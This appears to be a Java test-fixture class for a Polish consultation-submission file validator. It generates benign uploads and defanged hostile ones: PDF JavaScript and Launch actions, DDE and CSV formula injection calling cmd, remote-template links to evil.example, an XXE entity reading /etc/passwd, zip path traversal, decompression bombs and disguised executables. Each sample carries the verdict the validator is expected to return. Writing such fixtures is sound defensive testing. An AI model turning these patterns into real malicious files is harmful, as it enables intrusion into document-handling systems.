package pl.konsultacje.submission;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.List;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.commons.compress.archivers.zip.ZipArchiveEntry;
import org.apache.commons.compress.archivers.zip.ZipArchiveOutputStream;

/** Files, harmless and harmful, and what is to become of each; made here, so that none lies about. */
final class FileCorpus {

    static final String LET_IN = "";

    /**
     * One file.
     *
     * @param verdict the end of the refusal's code; {@link #LET_IN} when it is let in
     */
    record Sample(String about, FileRole role, String name, byte[] content, String verdict) {

        @Override
        public String toString() {
            return about + " (" + name + ")";
        }
    }

    private final List<Sample> samples = new ArrayList<>();

    private FileCorpus() {}

    static List<Sample> all() {
        var corpus = new FileCorpus();
        corpus.harmless();
        corpus.pdf();
        corpus.word();
        corpus.spreadsheets();
        corpus.archives();
        corpus.pictures();
        corpus.names();
        corpus.others();
        return corpus.samples;
    }

    private void letter(String about, String name, byte[] content, String verdict) {
        samples.add(new Sample(about, FileRole.LETTER, name, content, verdict));
    }

    private void harmless() {
        letter("a PDF", "pismo.pdf", pdf("<< /Type /Catalog >>"), LET_IN);
        letter("a PDF that links to a page", "pismo.pdf", pdf("<< /A << /S /URI /URI (https://a.pl) >> >>"), LET_IN);
        letter("a Word file", "formularz.docx", docx("<w:document/>"), LET_IN);
        letter(
                "a Word file with a hyperlink",
                "formularz.docx",
                docx("<w:document/>", "word/_rels/document.xml.rels", external("hyperlink")),
                LET_IN);
        letter(
                "a Word file with a chart and its table",
                "formularz.docx",
                docxWith("word/embeddings/Microsoft_Excel_Sheet.xlsx", xlsx("<worksheet/>")),
                LET_IN);
        letter("a Word file with a picture", "a.docx", docxWith("word/media/image1.png", png(10, 10)), LET_IN);
        letter("a spreadsheet", "formularz.xlsx", xlsx("<worksheet><f>SUM(A1:A3)</f></worksheet>"), LET_IN);
        letter("an OpenDocument text", "pismo.odt", odf("text", "<office:document-content/>"), LET_IN);
        letter("an OpenDocument spreadsheet", "tabela.ods", odf("spreadsheet", "<office:document-content/>"), LET_IN);
        letter("a CSV file", "uwagi.csv", bytes("Lp.;Uwaga\n1;Za krótko\n"), LET_IN);
        letter("a CSV file of Windows", "uwagi.csv", "Lp.;Uwaga\n1;Źle, że krótko\n".getBytes(windows()), LET_IN);
        letter("a CSV file with a formula that adds", "uwagi.csv", bytes("1;=A1+2\n"), LET_IN);
        letter("plain text", "uwagi.txt", bytes("Szanowni Państwo,\nuwagi do projektu.\n"), LET_IN);
        letter("plain text in UTF-16", "uwagi.txt", "\uFEFFŻółw".getBytes(StandardCharsets.UTF_16LE), LET_IN);
        letter("a PNG picture", "skan.png", png(100, 100), LET_IN);
        letter("a JPEG picture", "skan.jpg", jpeg(), LET_IN);
        letter("a JPEG picture, the other ending", "skan.JPEG", jpeg(), LET_IN);
        letter("a TIFF picture", "skan.tif", tiff(), LET_IN);
        letter("a mail", "uwagi.eml", mail("uwagi.pdf"), LET_IN);
        samples.add(new Sample("a XAdES signature", FileRole.SIGNATURE, "pismo.pdf.xades", xades(), LET_IN));
        samples.add(new Sample("a XAdES signature, ending .sig", FileRole.SIGNATURE, "a.sig", xades(), LET_IN));
        samples.add(new Sample("a PKCS #7 signature", FileRole.SIGNATURE, "pismo.p7s", pkcs7(), LET_IN));
        samples.add(new Sample("a scan", FileRole.SCAN, "skan.pdf", pdf("<< /Type /Catalog >>"), LET_IN));
        samples.add(new Sample("a form", FileRole.OFFICE_FORM, "a.xlsx", xlsx("<worksheet/>"), LET_IN));
        samples.add(new Sample("an attachment", FileRole.ATTACHMENT, "mapa.png", png(5, 5), LET_IN));
        samples.add(new Sample("a torn mail, kept as it came", FileRole.MAIL, "a.eml", bytes("\0\0 MZ"), LET_IN));
    }

    private void pdf() {
        letter("a PDF with a password", "a.pdf", pdf("trailer << /Encrypt 5 0 R >>"), "LOCKED");
        letter("a PDF with a password, in its own words", "a.pdf", pdf("<< /Encrypt<< /V 4 >> >>"), "LOCKED");
        letter("a PDF with a script", "a.pdf", pdf("<< /S /JavaScript /JS (app.alert(1)) >>"), "PROGRAM");
        letter("a PDF with a script under a coded name", "a.pdf", pdf("<< /S /J#61vaScript /#4aS 5 0 R >>"), "PROGRAM");
        letter("a PDF that starts a program", "a.pdf", pdf("<< /S /Launch /F (cmd.exe) >>"), "PROGRAM");
        letter("a PDF with a film", "a.pdf", pdf("<< /Subtype /RichMedia >>"), "PROGRAM");
        letter("a PDF with a form of scripts", "a.pdf", pdf("<< /AcroForm << /XFA 7 0 R >> >>"), "PROGRAM");
        letter("a PDF with a script in packed objects", "a.pdf", packedPdf("<< /S /JavaScript /JS (x) >>"), "PROGRAM");
        letter("a PDF with packed objects", "a.pdf", packedPdf("<< /Type /Page >>"), LET_IN);
        letter("a PDF that packs a bomb", "a.pdf", packedPdf("0".repeat(60_000_000)), "TOO_LARGE_INSIDE");
        letter(
                "a PDF with a program inside",
                "a.pdf",
                pdf("<< /Type /Filespec /UF (faktura.exe) >>"),
                "FORBIDDEN_INSIDE");
        letter("a torn PDF", "a.pdf", bytes("%PDF-1.7\n1 0 obj << /Type /Catalog >>"), "DAMAGED");
        letter("a PDF that is a page, too", "a.pdf", pdf("<html><script>alert(1)</script>"), "DAMAGED");
        letter("a PDF that is an archive, too", "a.pdf", join(pdf("<< >>"), zip("a.txt", bytes("x"))), "DAMAGED");
    }

    private void word() {
        letter("a Word file with macros", "a.docx", docxWith("word/vbaProject.bin", bytes("x")), "PROGRAM");
        letter("a Word file with a control", "a.docx", docxWith("word/activeX/activeX1.xml", bytes("x")), "PROGRAM");
        letter(
                "a Word file with an object",
                "a.docx",
                docxWith("word/embeddings/oleObject1.bin", bytes("x")),
                "PROGRAM");
        letter(
                "a Word file with an object under another name",
                "a.docx",
                docxWith("word/embeddings/Worksheet1.dat", HexFormat.of().parseHex("d0cf11e0a1b11ae100")),
                "PROGRAM");
        letter(
                "a Word file that says it has macros",
                "a.docx",
                docxWith("docProps/app.xml", bytes("<x>application/vnd.ms-word.document.macroEnabled.main+xml</x>")),
                "PROGRAM");
        letter(
                "a Word file with a template elsewhere",
                "a.docx",
                docx("<a/>", "word/_rels/settings.xml.rels", external("attachedTemplate")),
                "FETCHES");
        letter(
                "a Word file with a template on its author's disk",
                "a.docx",
                docx("<a/>", "word/_rels/settings.xml.rels", template("Target='file:///C:\\Szablony\\Pismo.dotx'")),
                LET_IN);
        letter(
                "a Word file with a template elsewhere, which a number hides",
                "a.docx",
                docx(
                        "<a/>",
                        "word/_rels/settings.xml.rels",
                        external("attachedTemplate").replace("'External'", "'&#69;xternal'")),
                "FETCHES");
        for (var target : List.of(
                "Target='file://///serwer.example/x.dotx'",
                "Target='file:///\\\\serwer.example\\x.dotx'",
                "x:Target='file:///C:/x.dotx' Target='http://evil.example/x.dotx'",
                "Target='http://evil.example/hyperlink'",
                "Target=\"http://evil.example/ Type='x/hyperlink'\"")) {
            letter(
                    "a Word file with a template by " + target,
                    "a.docx",
                    docx("<a/>", "word/_rels/settings.xml.rels", template(target)),
                    "FETCHES");
        }
        letter(
                "a Word file with a picture elsewhere",
                "a.docx",
                docx("<a/>", "word/_rels/document.xml.rels", external("image")),
                "FETCHES");
        letter(
                "the same in other characters",
                "a.docx",
                docxWith(
                        "word/_rels/document.xml.rels",
                        ("\uFEFF" + external("image")).getBytes(StandardCharsets.UTF_16LE)),
                "FETCHES");
        letter(
                "a Word file with a field that starts a program",
                "a.docx",
                docx("<w:instrText>DDEAUTO c:\\\\x</w:instrText>"),
                "FETCHES");
        letter(
                "the same, cut into pieces",
                "a.docx",
                docx("<w:instrText>DDEA</w:instrText></w:r><w:r><w:instrText>UTO c:\\\\x</w:instrText>"),
                "FETCHES");
        letter(
                "a Word file with a web page inside",
                "a.docx",
                docxWith("word/afchunk.html", bytes("<html>")),
                "FORBIDDEN_INSIDE");
        letter(
                "a Word file with a program inside",
                "a.docx",
                docxWith("word/media/image1.png", bytes("MZ\u0090\0\3")),
                "FORBIDDEN_INSIDE");
        letter(
                "a Word file with a definition",
                "a.docx",
                docx("<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>"),
                "DAMAGED");
        letter("a Word file with a password", "a.docx", locked(), "LOCKED");
        letter(
                "an old Word file",
                "a.doc",
                join(bytes("\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1"), new byte[600]),
                "SUBMISSION");
        letter(
                "a Word file with macros under its own name",
                "a.docm",
                docxWith("word/vbaProject.bin", bytes("x")),
                "otherName");
        letter(
                "an OpenDocument text with macros",
                "a.odt",
                odf("text", "<a/>", "Basic/Standard/Module1.xml", "<a/>"),
                "PROGRAM");
        letter(
                "an OpenDocument text that calls a macro",
                "a.odt",
                odf("text", "<a xlink:href=\"vnd.sun.star.script:Standard.Module1\"/>"),
                "PROGRAM");
        letter(
                "an OpenDocument text with a password",
                "a.odt",
                odf("text", "<a/>", "META-INF/manifest.xml", "<manifest:encryption-data>"),
                "LOCKED");
        letter(
                "an OpenDocument text with a picture elsewhere",
                "a.odt",
                odf("text", "<draw:image xlink:href=\"https://a.pl/x\">"),
                "FETCHES");
    }

    private void spreadsheets() {
        letter("a spreadsheet with macros", "a.xlsx", xlsxWith("xl/vbaProject.bin", "x"), "PROGRAM");
        letter("a spreadsheet with old macros", "a.xlsx", xlsxWith("xl/macrosheets/sheet1.xml", "<a/>"), "PROGRAM");
        letter("a spreadsheet that exchanges data", "a.xlsx", xlsx("<f>cmd|'/c calc'!A0</f>"), "FETCHES");
        letter(
                "a spreadsheet with a link for data",
                "a.xlsx",
                xlsxWith("xl/externalLinks/externalLink1.xml", "<ddeLink/>"),
                "FETCHES");
        letter(
                "a spreadsheet that reads another",
                "a.xlsx",
                xlsxWith("xl/externalLinks/_rels/externalLink1.xml.rels", external("externalLinkPath")),
                "FETCHES");
        letter("a CSV file that starts a program", "a.csv", bytes("1;=cmd|'/c calc'!A0\n"), "PROGRAM");
        letter("a CSV file that starts a program, in quotes", "a.csv", bytes("1,\"=cmd|'/c calc'!A0\"\n"), "PROGRAM");
    }

    private void archives() {
        letter("an archive", "a.zip", zip("a.txt", bytes("x")), "SUBMISSION");
        letter("an archive under another name", "a.docx", zip("a.txt", bytes("x")), "SUBMISSION");
        letter("an archive that leaves its folder", "a.docx", docxWith("../../etc/cron.d/x", bytes("x")), "DAMAGED");
        letter("an archive with a path of Windows", "a.docx", docxWith("word\\..\\x", bytes("x")), "DAMAGED");
        letter("an archive behind something else", "a.docx", join(docx("<a/>"), bytes("tail")), "DAMAGED");
        letter("a torn archive", "a.docx", Arrays.copyOf(docx("<a/>"), docx("<a/>").length - 30), "DAMAGED");
        letter("an archive that says other names", "a.docx", renamedInDirectory(), "DAMAGED");
        letter(
                "an archive in an archive",
                "a.docx",
                docxWith("word/media/a.zip", zip("b", bytes("x"))),
                "FORBIDDEN_INSIDE");
        letter(
                "an archive in an archive in an archive",
                "a.docx",
                docxWith("word/embeddings/a.xlsx", zip("xl/embeddings/b.xlsx", zip("c", bytes("x")))),
                "FORBIDDEN_INSIDE");
        letter(
                "macros in a table in a Word file",
                "a.docx",
                docxWith("word/embeddings/a.xlsx", xlsxWith("xl/vbaProject.bin", "x")),
                "PROGRAM");
        letter(
                "a program in a Word file, packed so that its first bytes come one by one",
                "a.docx",
                dripping("word/media/a.png", bytes("MZ\u0090\0\3\0\0\0 a program")),
                "FORBIDDEN_INSIDE");
        letter(
                "an archive that unpacks to 300 MB",
                "a.docx",
                docxWith("word/media/a.bmp", new byte[300_000_000]),
                "TOO_LARGE_INSIDE");
        letter("an archive of 12,000 files", "a.docx", manyFiles(12_000), "TOO_LARGE_INSIDE");
        letter("a Word file of 2,000 pictures", "a.docx", manyFiles(2_000), LET_IN);
        letter(
                "a Word file whose words never end a link",
                "a.docx",
                docx("<Relationship TargetMode=\"".repeat(600_000)),
                LET_IN);
        letter("a Word file with harm behind 25 MB", "a.docx", docx(" ".repeat(25_000_000)), "TOO_LARGE_INSIDE");
    }

    private void pictures() {
        letter("a picture that is a page, too", "a.jpg", join(jpeg(), bytes("<script>alert(1)</script>")), "DAMAGED");
        letter("a picture that is an archive, too", "a.png", join(png(5, 5), zip("a", bytes("x"))), "DAMAGED");
        letter("a picture with something behind it", "a.png", join(png(5, 5), bytes("tail")), "DAMAGED");
        letter("a picture that unpacks to gigabytes", "a.png", png(60_000, 60_000), "TOO_LARGE_INSIDE");
        letter(
                "a drawing with scripts",
                "a.svg",
                bytes("<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>"),
                "PAGE");
    }

    private void names() {
        letter("a PDF under the name of a picture", "a.png", pdf("<< >>"), "otherName");
        letter("a spreadsheet under the name of a Word file", "a.docx", xlsx("<a/>"), "otherName");
        letter("a name that turns its end around", "faktura\u202Efdp.exe", pdf("<< >>"), "SUBMISSION");
        letter("a program's ending before the last", "faktura.exe.pdf", pdf("<< >>"), "SUBMISSION");
        letter("a name with a folder", "..\\..\\pismo.pdf", pdf("<< >>"), LET_IN);
        letter("a name with characters that nobody sees", "pi\u200Bs\u0007mo.pdf", pdf("<< >>"), LET_IN);
        letter("a very long name", "a".repeat(400) + ".pdf", pdf("<< >>"), LET_IN);
        letter("no name", "", pdf("<< >>"), "otherName");
    }

    private void others() {
        letter("an empty file", "a.pdf", new byte[0], "empty");
        letter("a file of 16 MB", "a.txt", new byte[16_000_000], "tooLarge");
        letter("a program under the name of a PDF", "a.pdf", bytes("MZ\u0090\0\3\0\0\0"), "SUBMISSION");
        letter("a web page under the name of a text", "a.txt", bytes("<html><script>alert(1)</script></html>"), LET_IN);
        for (var name : List.of("a.eml", "a.html", "a.pdf", "a.docx", "a.png")) {
            letter("a web page as " + name, name, bytes("<html><script>alert(1)</script></html>"), "PAGE");
        }
        letter("a web page with a type as a PDF", "a.pdf", bytes("<!DOCTYPE html><html><body>x</body></html>"), "PAGE");
        letter("a page with zeros as a text", "a.txt", bytes("<html>\0</html>"), "PAGE");
        for (var remark :
                List.of("<script>", "<body>", "<svg xmlns='http://www.w3.org/2000/svg'>", "<?php", "#!/bin/sh")) {
            letter("a remark that begins with " + remark, "a.txt", bytes(remark + " psuje stronę\n"), LET_IN);
            letter("a remark about " + remark, "a.csv", bytes("Lp.;Uwaga\n1;Znacznik " + remark + " usunąć\n"), LET_IN);
        }
        letter("a definition as a text", "a.txt", bytes("<?xml version='1.0'?><a>uwaga</a>"), LET_IN);
        letter(
                "a mail written as a page",
                "a.eml",
                bytes("From: a@example.org\nSubject: x\nContent-Type: text/html\n\n<html><body>Uwaga"),
                LET_IN);
        letter("an RTF file", "a.rtf", bytes("{\\rtf1 uwaga}"), "SUBMISSION");
        letter("zeros under the name of a text", "a.txt", new byte[100], "SUBMISSION");
        letter("a mail with a program", "a.eml", mail("faktura.exe"), "FORBIDDEN_INSIDE");
        letter("a signature as a letter", "a.xades", xades(), "SUBMISSION");
        samples.add(new Sample("a letter as a signature", FileRole.SIGNATURE, "a.p7s", pdf("<< >>"), "SIGNATURE"));
        samples.add(new Sample(
                "a signature with a definition",
                FileRole.SIGNATURE,
                "a.xades",
                bytes("<Signature xmlns='http://www.w3.org/2000/09/xmldsig#'><!DOCTYPE a></Signature>"),
                "DAMAGED"));
        samples.add(new Sample("a text as a scan", FileRole.SCAN, "a.txt", bytes("abc"), "SUBMISSION"));
        samples.add(new Sample("a picture as a form", FileRole.OFFICE_FORM, "a.png", png(5, 5), "SUBMISSION"));
    }

    static byte[] bytes(String text) {
        return text.getBytes(
                text.chars().anyMatch(c -> c > 255) ? StandardCharsets.UTF_8 : StandardCharsets.ISO_8859_1);
    }

    private static java.nio.charset.Charset windows() {
        return java.nio.charset.Charset.forName("windows-1250");
    }

    static byte[] pdf(String objects) {
        return bytes("%PDF-1.7\n" + objects + "\nstartxref\n9\n%%EOF\n");
    }

    private static byte[] packedPdf(String objects) {
        var deflater = new Deflater();
        deflater.setInput(bytes(objects));
        deflater.finish();
        var packed = new ByteArrayOutputStream();
        var piece = new byte[65_536];
        while (!deflater.finished()) {
            packed.write(piece, 0, deflater.deflate(piece));
        }
        deflater.end();
        return join(
                bytes("%PDF-1.7\n4 0 obj << /Type /ObjStm /Filter /FlateDecode >>\nstream\r\n"),
                packed.toByteArray(),
                bytes("\nendstream\n%%EOF\n"));
    }

    private static String external(String type) {
        return "<Relationships><Relationship Id='1' Type='http://x/" + type
                + "' Target='http://evil.example/x' TargetMode='External'/></Relationships>";
    }

    private static String template(String target) {
        return external("attachedTemplate").replace("Target='http://evil.example/x'", target);
    }

    static byte[] docx(String document, String... more) {
        var parts = new ArrayList<Object>(List.of("[Content_Types].xml", "<Types/>", "word/document.xml", document));
        parts.addAll(List.of(more));
        return zip(parts.toArray());
    }

    private static byte[] docxWith(String name, byte[] content) {
        return zip("[Content_Types].xml", "<Types/>", "word/document.xml", "<a/>", name, content);
    }

    static byte[] xlsx(String sheet) {
        return zip("[Content_Types].xml", "<Types/>", "xl/workbook.xml", "<a/>", "xl/worksheets/sheet1.xml", sheet);
    }

    private static byte[] xlsxWith(String name, String content) {
        return zip("[Content_Types].xml", "<Types/>", "xl/workbook.xml", "<a/>", name, content);
    }

    private static byte[] odf(String kind, String content, String... more) {
        var parts = new ArrayList<Object>(
                List.of("mimetype", "application/vnd.oasis.opendocument." + kind, "content.xml", content));
        parts.addAll(List.of(more));
        return zip(parts.toArray());
    }

    private static byte[] manyFiles(int count) {
        var parts = new ArrayList<Object>(List.of("[Content_Types].xml", "<Types/>", "word/document.xml", "<a/>"));
        for (int i = 0; i < count; i++) {
            parts.add("word/media/image" + i + ".png");
            parts.add("x");
        }
        return zip(parts.toArray());
    }

    /** More empty blocks behind the first byte than are read at once. */
    private static byte[] dripping(String name, byte[] content) {
        var packed = new ByteArrayOutputStream();
        packed.writeBytes(new byte[] {0, 1, 0, (byte) 0xfe, (byte) 0xff, content[0]});
        for (int i = 0; i < 1_000; i++) {
            packed.writeBytes(new byte[] {0, 0, 0, (byte) 0xff, (byte) 0xff});
        }
        var rest = content.length - 1;
        packed.writeBytes(new byte[] {1, (byte) rest, 0, (byte) ~rest, (byte) 0xff});
        packed.write(content, 1, rest);
        var checksum = new CRC32();
        checksum.update(content);
        var entry = new ZipArchiveEntry(name);
        entry.setMethod(ZipEntry.DEFLATED);
        entry.setSize(content.length);
        entry.setCompressedSize(packed.size());
        entry.setCrc(checksum.getValue());
        var bytes = new ByteArrayOutputStream();
        try (var zip = new ZipArchiveOutputStream(bytes)) {
            for (var part : List.of("[Content_Types].xml", "word/document.xml")) {
                zip.putArchiveEntry(new ZipArchiveEntry(part));
                zip.write(bytes("<a/>"));
                zip.closeArchiveEntry();
            }
            zip.addRawArchiveEntry(entry, new ByteArrayInputStream(packed.toByteArray()));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    private static byte[] renamedInDirectory() {
        var honest = docxWith("word/media/image1.png", bytes("x"));
        var text = new String(honest, StandardCharsets.ISO_8859_1);
        var last = text.lastIndexOf("word/media/image1.png");
        var other = honest.clone();
        System.arraycopy(bytes("word/media/image2.png"), 0, other, last, 21);
        return other;
    }

    /** @param parts name and content by turns */
    static byte[] zip(Object... parts) {
        var bytes = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(bytes)) {
            for (int i = 0; i < parts.length; i += 2) {
                var content = parts[i + 1] instanceof String text ? bytes(text) : (byte[]) parts[i + 1];
                var entry = new ZipEntry((String) parts[i]);
                if (i == 0) {
                    var checksum = new CRC32();
                    checksum.update(content);
                    entry.setMethod(ZipEntry.STORED);
                    entry.setSize(content.length);
                    entry.setCrc(checksum.getValue());
                }
                zip.putNextEntry(entry);
                zip.write(content);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    private static byte[] locked() {
        return join(
                bytes("\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1"),
                new byte[512],
                "EncryptedPackage".getBytes(StandardCharsets.UTF_16LE),
                new byte[512]);
    }

    private static byte[] png(int width, int height) {
        return join(
                bytes("\u0089PNG\r\n\u001a\n\0\0\0\rIHDR"),
                number(width),
                number(height),
                bytes("\10\2\0\0\0\0\0\0\0\0\0\0\0IEND\u00aeB`\u0082"));
    }

    private static byte[] number(int value) {
        return new byte[] {(byte) (value >> 24), (byte) (value >> 16), (byte) (value >> 8), (byte) value};
    }

    private static byte[] jpeg() {
        return bytes("\u00ff\u00d8\u00ff\u00e0\0\20JFIF\0\1\1\0\0\1\0\1\0\0\u00ff\u00d9");
    }

    private static byte[] tiff() {
        return bytes("II*\0\10\0\0\0\0\0\0\0\0\0");
    }

    private static byte[] mail(String attachment) {
        return bytes("Received: from a by b\r\nFrom: Jan <jan@example.org>\r\nDate: Wed, 3 Feb 2021 10:00:00 +0100\r\n"
                + "Subject: Uwagi\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n\r\nTekst\r\n"
                + "--x\r\nContent-Disposition: attachment; filename=\"" + attachment + "\"\r\n\r\nabc\r\n--x--\r\n");
    }

    static byte[] xades() {
        return bytes(
                "<?xml version=\"1.0\"?>\n<ds:Signature xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#\"></ds:Signature>");
    }

    private static byte[] pkcs7() {
        return bytes("0\u0082\1\0\u0006\u0009*\u0086H\u0086\u00f7\r\u0001\u0007\u0002\u00a0\u0082\0\0\0\0\0\0");
    }

    private static byte[] join(byte[]... pieces) {
        var joined = new ByteArrayOutputStream();
        for (var piece : pieces) {
            joined.writeBytes(piece);
        }
        return joined.toByteArray();
    }
}
